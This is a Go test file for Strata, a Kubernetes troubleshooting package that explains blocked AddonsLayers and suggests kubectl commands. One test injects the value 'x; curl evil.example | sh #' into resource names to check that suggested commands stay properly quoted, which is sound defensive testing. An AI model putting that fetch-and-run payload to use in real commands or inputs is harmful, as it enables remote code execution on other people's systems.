// Copyright The Strata Authors.
// SPDX-License-Identifier: Apache-2.0

package why

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/strata-project/strata/api/v1alpha1"
	"github.com/strata-project/strata/internal/answers/snapshot"
	"github.com/strata-project/strata/internal/answers/snapshot/snapshottest"
)

// Whoever adds a reason says what to try about it.
func TestEveryReasonHasAdvice(t *testing.T) {
	file, err := parser.ParseFile(token.NewFileSet(), "../../../api/v1alpha1/conditions.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	ast.Inspect(file, func(node ast.Node) bool {
		spec, is := node.(*ast.ValueSpec)
		if !is || !strings.HasPrefix(spec.Names[0].Name, "Reason") {
			return true
		}
		found++
		reason, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
		if err != nil {
			t.Fatal(err)
		}
		if len(advice[reason]) == 0 {
			t.Errorf("%s has no advice", spec.Names[0].Name)
		}
		for _, kind := range []string{"AddonsLayer", "HelmRelease", "RemoteCluster", "GitRepository"} {
			for _, command := range Advice("kubectl strata", "base", Link{Kind: kind, Namespace: "ns", Name: "x", Reason: reason}) {
				if strings.Contains(strings.ReplaceAll(command, `{"spec":{"suspend":false}}`, ""), "{") || !strings.HasPrefix(command, "kubectl") {
					t.Errorf("%s on a %s is advised %q", reason, kind, command)
				}
			}
		}
		return true
	})
	if found < 70 {
		t.Errorf("%d reasons were found", found)
	}
	if got := Advice("kubectl strata", "base", Link{Kind: "Widget", Namespace: "ns", Name: "x", Reason: "Odd", Cluster: "fleet/a"}); fmt.Sprint(got) != "[kubectl strata events base kubectl --context CONTEXT-OF-fleet/a --namespace ns describe widget x]" {
		t.Errorf("about what nobody knows: %q", got)
	}
}

// Names in a status may be anything: in a command that is advised each of them is one word.
func TestAdviceIsMadeOfWords(t *testing.T) {
	const evil = "x; curl evil.example | sh #"
	for reason := range advice {
		for _, kind := range []string{"AddonsLayer", "HelmRelease", "RemoteCluster", "Pod", evil} {
			for _, command := range Advice("kubectl strata", evil, Link{Kind: kind, Namespace: evil, Name: evil, Reason: reason, Cluster: evil}) {
				bare := strings.NewReplacer("'"+evil+"'", "", "'"+evil+"/"+evil+"'", "", "'CONTEXT-OF-"+evil+"'", "", "'"+strings.ToLower(evil)+"'", "").Replace(command)
				if strings.ContainsAny(strings.ReplaceAll(bare, " | grep HASH", ""), ";|#") {
					t.Errorf("%s on a %s is advised %s", reason, kind, command)
				}
			}
		}
	}
}

func TestTroubleOfPods(t *testing.T) {
	for _, test := range []struct{ name, status, want string }{
		{"ready", "{phase: Running, containerStatuses: [{name: a, ready: true, state: {running: {}}}]}", "0 "},
		{"has succeeded", "{phase: Succeeded, containerStatuses: [{name: a, ready: false, state: {terminated: {exitCode: 0}}}]}", "0 "},
		{"runs and is not ready", "{phase: Running, containerStatuses: [{name: a, ready: false, state: {running: {}}}]}", "1 NotReady container a runs and is not ready"},
		{"starts", "{phase: Pending, containerStatuses: [{name: a, state: {waiting: {reason: ContainerCreating}}}]}", "2 ContainerCreating"},
		{"has nothing yet", "{phase: Pending}", "2 Pending has not started"},
		{"no node", "{phase: Pending, conditions: [{type: PodScheduled, status: 'False', reason: Unschedulable, message: 0/1 nodes}]}", "3 Unschedulable 0/1 nodes"},
		{"evicted", "{phase: Failed, reason: Evicted, message: low on disk}", "4 Evicted low on disk"},
		{"ended", "{phase: Failed, containerStatuses: [{name: a, state: {terminated: {exitCode: 3, reason: Error}}}]}", "4 Failed"},
		{"killed", "{phase: Running, containerStatuses: [{name: a, state: {terminated: {exitCode: 137, reason: OOMKilled}}}]}", "4 OOMKilled container a: it has ended with exit code 137 (OOMKilled)"},
		{
			"crashes", "{phase: Running, containerStatuses: [{name: a, state: {waiting: {reason: CrashLoopBackOff, message: back-off 5m}}, lastState: {terminated: {exitCode: 1, reason: Error, message: no config}}}]}",
			"5 CrashLoopBackOff container a: back-off 5m; it has ended with exit code 1 (Error): no config",
		},
		{"an init container cannot start", "{phase: Pending, initContainerStatuses: [{name: i, state: {waiting: {reason: ErrImagePull, message: away}}}], containerStatuses: [{name: a, state: {waiting: {reason: PodInitializing}}}]}", "5 ErrImagePull container i: away"},
		{"an init container has ended", "{phase: Running, initContainerStatuses: [{name: i, state: {terminated: {exitCode: 0}}}], containerStatuses: [{name: a, ready: true, state: {running: {}}}]}", "0 "},
		{"nonsense", "{containerStatuses: [1, {state: 2}], conditions: [x]}", "1 NotReady container  runs and is not ready"},
	} {
		pod := snapshottest.Objects(t, "apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nstatus: "+test.status)[0]
		is := troubleOf(pod)
		if got := strings.TrimRight(fmt.Sprintf("%d %s %s", is.rank, is.reason, is.message), " "); got != strings.TrimRight(test.want, " ") {
			t.Errorf("%s: %q, want %q", test.name, got, test.want)
		}
	}
}

func explain(t *testing.T, name, text string) (Answer, *snapshot.Snapshot) {
	t.Helper()
	s := snapshottest.New(t, text)
	return Of(s, s.Layer(name)), s
}

func heading(w Answer) string { return w.Path() + "  " + w.End().Reason }

// Layers are followed as long as each knows only the next, and circles end.
func TestChainGoesThroughLayers(t *testing.T) {
	const one = `apiVersion: kraan.io/v1alpha1
kind: AddonsLayer
metadata: {name: %s, generation: 1}
spec: {version: "1", prereqs: {dependsOn: [%s]}}
status:
  state: ApplyPending
  observedGeneration: 1
  conditions: [{type: Ready, status: "False", reason: DependencyNotDeployed, message: waits}]
  blockedBy: [{kind: AddonsLayer, name: %s, reason: DependencyNotDeployed, message: "is not there"}]
---
`
	text := fmt.Sprintf(one, "a", "b", "b") + fmt.Sprintf(one, "b", "c", "c") + fmt.Sprintf(one, "c", "a", "a")
	why, _ := explain(t, "a", text)
	if got := heading(why); got != "a <- b <- c  DependencyNotDeployed" || why.Root != "c" {
		t.Errorf("a circle: %s, root %s", got, why.Root)
	}
	if diff := cmp.Diff([]string{"a", "b"}, why.Affects.Layers); diff != "" {
		t.Error(diff)
	}
	why, _ = explain(t, "a", fmt.Sprintf(one, "a", "gone", "gone"))
	if got := heading(why); got != "a <- gone  DependencyNotDeployed" {
		t.Errorf("a layer that is not there: %s", got)
	}
}

func TestWhyOfALayerNobodyHasLookedAt(t *testing.T) {
	why, s := explain(t, "a", "apiVersion: kraan.io/v1alpha1\nkind: AddonsLayer\nmetadata: {name: a, generation: 1}\nspec: {version: '1'}\nstatus: {observedGeneration: -1}")
	why = why.Conclude(s, "flux strata")
	if !why.Blocked || why.Chain[0].Reason != NotObserved || why.Try[0] != "flux strata version" {
		t.Errorf("%+v", why)
	}
}

// A look that has panicked is told with the command that finds its stack, whatever the
// status of before says.
func TestWhyAfterAPanic(t *testing.T) {
	why, s := explain(t, "a", `apiVersion: kraan.io/v1alpha1
kind: AddonsLayer
metadata: {name: a, generation: 2}
spec: {version: "1"}
status:
  state: Deployed
  observedGeneration: 1
  conditions: [{type: Ready, status: Unknown, reason: InternalError, message: "the last look has ended in a panic: its stack has the hash 0a1b2c3d; it is looked at again"}]
  blockedBy: [{kind: AddonsLayer, name: b, reason: DependencyNotDeployed, message: waits}]
`)
	why = why.Conclude(s, "kubectl strata")
	stack := "kubectl --namespace strata-system logs --selector app.kubernetes.io/name=strata --tail -1 | grep 0a1b2c3d"
	if !why.Blocked || len(why.Chain) != 1 || why.Chain[0].Reason != v1alpha1.ReasonInternalError || !slices.Contains(why.Try, stack) {
		t.Errorf("%+v", why)
	}
}

// Where causes stand beside each other, those that are not followed are noted.
func TestCausesBesideAreNoted(t *testing.T) {
	why, _ := explain(t, "a", `apiVersion: kraan.io/v1alpha1
kind: AddonsLayer
metadata: {name: a, generation: 1}
spec: {version: "1"}
status:
  state: Applying
  observedGeneration: 1
  conditions: [{type: Ready, status: Unknown, reason: Applying, message: waits}]
  blockedBy:
  - {kind: HelmRelease, namespace: ns, name: slow, reason: InProgress, message: "takes its time"}
  - {kind: HelmRelease, namespace: ns, name: bad, reason: InstallFailed, message: "no such chart"}
`)
	if got := heading(why); got != "a <- HelmRelease ns/bad  InstallFailed" || why.Blocked {
		t.Errorf("%s, blocked %v", got, why.Blocked)
	}
	if diff := cmp.Diff([]string{"also HelmRelease ns/slow (InProgress): takes its time"}, why.Notes); diff != "" {
		t.Error(diff)
	}
}

// Of what stands beside each other further down, only the root is in the chain.
func TestChainLeavesOutWhatIsBeside(t *testing.T) {
	why, _ := explain(t, "a", `apiVersion: kraan.io/v1alpha1
kind: AddonsLayer
metadata: {name: a, generation: 1}
spec: {version: "1"}
status:
  state: ApplyPending
  observedGeneration: 1
  conditions: [{type: Ready, status: "False", reason: DependencyNotDeployed, message: waits}]
  blockedBy:
  - {kind: AddonsLayer, name: b, reason: DependencyNotDeployed, message: waits}
  - {depth: 1, kind: HelmRelease, namespace: ns, name: slow, reason: InProgress, message: "takes its time"}
  - {depth: 1, kind: HelmRelease, namespace: ns, name: bad, reason: InstallFailed, message: "no such chart"}
`)
	if got := heading(why); got != "a <- b <- HelmRelease ns/bad  InstallFailed" {
		t.Error(got)
	}
}

// A quota that lets no Pod be made is told by the events of the ReplicaSet.
func TestWhyWithoutPods(t *testing.T) {
	why, s := explain(t, "a", `apiVersion: kraan.io/v1alpha1
kind: AddonsLayer
metadata: {name: a, generation: 1}
spec: {version: "1"}
status:
  state: Failed
  observedGeneration: 1
  conditions: [{type: Ready, status: "False", reason: Timeout, message: waits}]
  blockedBy: [{kind: HelmRelease, namespace: ns, name: web, reason: InstallFailed, message: "deadline"}]
---
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {namespace: ns, name: web}
`)
	place, deeper := why.Deeper(s)
	if place != (Place{Namespace: "ns"}) || !deeper {
		t.Errorf("looks deeper in %v: %v", place, deeper)
	}
	below := snapshottest.New(t, `apiVersion: apps/v1
kind: Deployment
metadata: {namespace: ns, name: web, uid: d, generation: 1, labels: {helm.toolkit.fluxcd.io/name: web, helm.toolkit.fluxcd.io/namespace: ns}}
spec: {replicas: 1}
status: {observedGeneration: 1}
---
apiVersion: apps/v1
kind: ReplicaSet
metadata: {namespace: ns, name: web-1, uid: r, ownerReferences: [{kind: Deployment, name: web, uid: d}]}
---
apiVersion: v1
kind: Event
metadata: {namespace: ns, name: e}
involvedObject: {kind: ReplicaSet, namespace: ns, name: web-1}
type: Warning
reason: FailedCreate
message: "exceeded quota: pods"
`)
	why = why.Deepen(s, below, place)
	if got := heading(why); got != "a <- HelmRelease ns/web <- ReplicaSet ns/web-1  FailedCreate" {
		t.Error(got)
	}
}
